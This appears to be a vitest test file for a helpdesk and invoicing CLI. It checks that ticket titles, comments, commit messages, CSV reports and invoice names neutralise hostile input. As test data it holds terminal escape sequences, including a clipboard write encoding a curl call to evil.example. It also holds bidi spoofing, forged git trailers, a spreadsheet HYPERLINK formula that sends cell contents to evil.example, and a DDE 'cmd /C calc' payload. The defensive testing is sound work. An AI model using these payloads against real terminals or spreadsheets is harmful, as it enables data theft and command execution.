import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { deskProcess, helpdesk, openTicket, snapshot, type InProcessHelpdesk } from '../helpers/helpdesk.js';
import { at, invoiceHelpdesk, logGoldenOctober } from '../invoice/helpers.js';
import { pdfText } from '../invoice/documents.js';
import { ticketFile } from '../../src/core/ticket/paths.js';
import { csvCells } from '../helpers/csv.js';

/*
 * The attacks of the issue "text that cannot attack the reader", each as it was reproduced:
 * outside text that reached the terminal, git, spreadsheets and legal documents raw. Desk runs
 * in-process (its stdout no terminal, as a process's into a pipe); `kb search` also as a process,
 * which starts on a path of its own (src/cli/lean/).
 */
const ESC_TITLE = '\u001b]0;pwned\u0007\u001b[2J\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\u0007Drucker';
const RLO = '\u202e';
/** What a terminal would act on: C0 controls but tab and newline, DEL, C1 controls, bidi controls. */
// eslint-disable-next-line no-control-regex
const ACTS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let hd: InProcessHelpdesk;
let ihd: InProcessHelpdesk | undefined;
afterEach(() => {
  hd?.cleanup();
  ihd?.cleanup();
  ihd = undefined;
});

describe('terminal injection', () => {
  it('a title, contact and comment with OSC/CSI sequences and a bidi override are shown, never run', async () => {
    hd = helpdesk();
    const id = await openTicket(hd, [
      '--title',
      `${ESC_TITLE} ${RLO}gpj.exe`,
      '--contact',
      `Sabine ${RLO}Vogt\u001b[8m`,
      '--description',
      `Zeile 1\n\u001b[31mrot\u001b[0m\r2026-11-20 10:00  ak    closed, accepted by Sabine`,
      '--category',
      'question',
      '--priority',
      'high',
    ]);
    await hd.ok(['comment', id, '-m', `Notiz \u009b2J ${RLO}x`]);
    await hd.ok(['kb', 'new', '--from-ticket', id, '--slug', 'drucker'], { env: { DESK_USER: 'jb' } });
    const outputs = [
      await hd.ok(['list']),
      await hd.ok(['list', '--sort', 'deadline']),
      await hd.ok(['show', id]),
      await hd.ok(['queue']),
      await hd.ok(['sla']),
      await hd.ok(['kb', 'list']),
      await hd.ok(['kb', 'show', 'drucker']),
      await hd.ok(['kb', 'show', 'drucker', '--raw']),
      await hd.ok(['kb', 'search', 'Drucker']),
      deskProcess(hd.root).ok(['kb', 'search', 'Drucker']),
      await hd.ok(['show', id, '--json']),
      await hd.ok(['list', '--json']),
    ];
    for (const out of outputs) expect(out).not.toMatch(ACTS);
    const show = await hd.ok(['show', id]);
    expect(show).toContain('\\x1b]0;pwned\\x07\\x1b[2J');
    expect(show).toContain('\\u202egpj.exe');
    // the description's carriage return cannot overwrite a line and fake a timeline entry
    expect(show).toContain('rot\\x1b[0m\\x0d2026-11-20 10:00');
    // JSON keeps the title exactly: a program reading it gets what was typed
    expect(JSON.parse(await hd.ok(['show', id, '--json'])).state.title).toBe(`${ESC_TITLE} ${RLO}gpj.exe`);
  });

  it('error messages quoting what was typed show it too', async () => {
    hd = helpdesk();
    const r = await hd.desk(['show', `T-\u001b]0;x\u0007`]);
    expect(r.code).toBe(2);
    expect(r.stderr).not.toMatch(ACTS);
  });
});

describe('commit messages', () => {
  it('a title with line breaks is refused at input; one written by hand keeps list rows one line each', async () => {
    hd = helpdesk();
    const before = snapshot(hd);
    const r = await hd.desk([
      'open',
      '-c',
      'acme',
      '--channel',
      'phone',
      '-t',
      'Drucker\n\nSigned-off-by: Chef <chef@x.de>',
    ]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--title: has a line break');
    expect(snapshot(hd)).toBe(before);

    const id = await openTicket(hd);
    const file = ticketFile(id);
    hd.write(file, hd.read(file).replaceAll('title: Drucker druckt nicht', 'title: "Drucker\\nSigned-off-by: Chef"'));
    hd.git('commit', '-qam', 'a title edited by hand');
    const rows = (await hd.ok(['list'])).trimEnd().split('\n');
    expect(rows).toHaveLength(2); // header and the one ticket
    expect(rows[1]).toContain('Drucker\\nSigned-off-by: Chef');
  });

  it('outside text in a commit subject forges no trailer and puts no control into git log', async () => {
    hd = helpdesk();
    const id = await openTicket(hd, ['--title', `${ESC_TITLE} ${RLO}x`, '--category', 'question', '--priority', 'low']);
    await hd.ok(['escalate', id, '--reason', 'DB-Analyse\n\nSigned-off-by: Chef <chef@x.de>\nCo-authored-by: X <x@x>']);
    const log = hd.git('log', '--format=%B%n----');
    expect(log).not.toMatch(ACTS);
    for (const message of log
      .split('----\n')
      .map((m) => m.trim())
      .filter(Boolean))
      expect(message.split('\n')).toHaveLength(1);
    expect(hd.git('log', '-1', '--format=%s')).toContain('DB-Analyse\\n\\nSigned-off-by: Chef');
    expect(hd.git('log', '-1', '--format=%(trailers)').trim()).toBe('');
  });
});

describe('spreadsheets and Markdown', () => {
  const FORMULA = '=1+1+HYPERLINK("https://evil.example/?x="&A1,"Klick")';

  it('report CSV cells that would start a formula start with a quote; Markdown passes no <script>', async () => {
    hd = helpdesk();
    await openTicket(hd, ['--title', FORMULA, '--category', 'question', '--priority', 'normal']);
    await openTicket(hd, ['--title', '<script>alert(1)</script>', '--category', 'question', '--priority', 'normal']);
    await openTicket(hd, ['--title', '@SUM(1+1)*cmd|" /C calc"!A0', '--category', 'question', '--priority', 'normal']);
    for (const locale of ['en', 'de']) {
      const csv = await hd.ok(['report', 'backlog', '--format', 'csv', '--csv-locale', locale]);
      const cells = csvCells(csv, locale === 'de' ? ';' : ',');
      expect(cells.some((c) => c.startsWith("'=1+1+HYPERLINK"))).toBe(true);
      expect(cells.some((c) => c.startsWith("'@SUM"))).toBe(true);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c))).toEqual([]);
    }
    const customer = csvCells(await hd.ok(['report', 'customer', 'acme', '--format', 'csv']), ',');
    expect(customer.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    for (const report of [['backlog'], ['customer', 'acme']]) {
      const md = await hd.ok(['report', ...report, '--format', 'md']);
      expect(md).not.toMatch(/<script/i);
      const html = await hd.ok(['report', ...report, '--format', 'html']);
      expect(html).not.toMatch(/<script/i);
    }
  });
});

describe('legal documents', () => {
  it('a customer name with characters XML cannot carry is refused at input, naming the flag', async () => {
    const hd = (ihd = invoiceHelpdesk());
    const before = snapshot(hd);
    const r = await hd.desk(
      [
        'customer',
        'add',
        'bad',
        '--name',
        'Böse\u0001\u0007 GmbH',
        '--street',
        'A 1',
        '--postal-code',
        '1',
        '--city',
        'X',
        '--project-lead',
        'tb',
        '--sales-rep',
        'sh',
      ],
      { env: { DESK_USER: 'ak' } },
    );
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--name: has the character U\+0001 at position 5/);
    expect(snapshot(hd)).toBe(before);
  });

  it('desk check names a customer file with such a character, and an issued e-invoice that is not well-formed', async () => {
    const hd = (ihd = invoiceHelpdesk());
    await logGoldenOctober(hd);
    await hd.ok(['invoice', 'run', '--date', '2026-11-01'], { env: { ...at('2026-11-01'), DESK_USER: 'ak' } });
    const xmlFile = 'invoices/2026/RE-2026-0001.xml';
    hd.write(xmlFile, hd.read(xmlFile).replace('ACME Maschinenbau GmbH', 'ACME \u0001\u0007 GmbH'));
    hd.write('contracts/acme.yaml', hd.read('contracts/acme.yaml').replace(/^name: .*$/m, 'name: "ACME \\x01"'));
    hd.git('commit', '-qam', 'edited by hand');
    const check = await hd.desk(['check']);
    expect(check.code).toBe(2);
    expect(check.stdout).toMatch(/^contracts\/acme\.yaml: name: has the character U\+0001/m);
    expect(check.stdout).toMatch(/^invoices\/2026\/RE-2026-0001\.xml: \(xml\): line \d+: not well-formed XML/m);
  });

  // every script in the PDF comes with the embedded font of PDF/A (docs/invoicing.md)
  it('a right-to-left override in a customer name does not reach the PDF, but the name does', async () => {
    const name = `${RLO}HbmG rellüM`;
    const hd = (ihd = invoiceHelpdesk());
    hd.write(
      'contracts/acme.yaml',
      hd.read('contracts/acme.yaml').replace('name: ACME Maschinenbau GmbH', `name: "${name}"`),
    );
    hd.git('commit', '-qam', 'name');
    await logGoldenOctober(hd);
    await hd.ok(['invoice', 'run', '--date', '2026-11-01'], { env: { ...at('2026-11-01'), DESK_USER: 'ak' } });
    const pdf = await pdfText(readFileSync(join(hd.root, 'invoices/2026/RE-2026-0001.pdf')));
    expect(pdf).not.toContain(RLO);
    expect(pdf).toContain('HbmG rellüM');
    const xml = hd.read('invoices/2026/RE-2026-0001.xml');
    expect(xml).toContain(name); // the e-invoice carries the name exactly as the customer file has it
  });
});
